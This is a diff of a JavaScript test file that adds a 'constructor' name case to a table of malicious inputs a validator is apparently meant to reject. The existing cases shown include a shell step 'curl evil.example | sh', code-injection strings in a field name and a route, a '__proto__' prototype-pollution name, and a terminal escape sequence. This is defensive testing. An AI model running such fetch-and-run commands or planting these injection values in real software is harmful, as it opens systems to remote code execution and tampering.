@@ -69,6 +69,7 @@ describe("what a feature says is checked", () => {
     ["a field that is code", (one) => Object.assign(one.schema.userFields[0], { name: "x }\nmodel Evil {" })],
     ["a step that is a command of the shell", (one) => Object.assign(one.nextSteps, { push: "curl evil.example | sh" })],
     ["a route that is code", (one) => Object.assign(one.routes, { settings: '/x"; evil(); "' })],
+    ["the name constructor", (one) => Object.assign(one, { name: "constructor" })],
     ["the name __proto__", (one) => Object.assign(one, { name: "__proto__" })],
     ["a title with an escape", (one) => Object.assign(one, { title: "\u001B[2J" })],
     ["odd types", (one) => Object.assign(one, { files: { length: 3 }, env: "x" })],
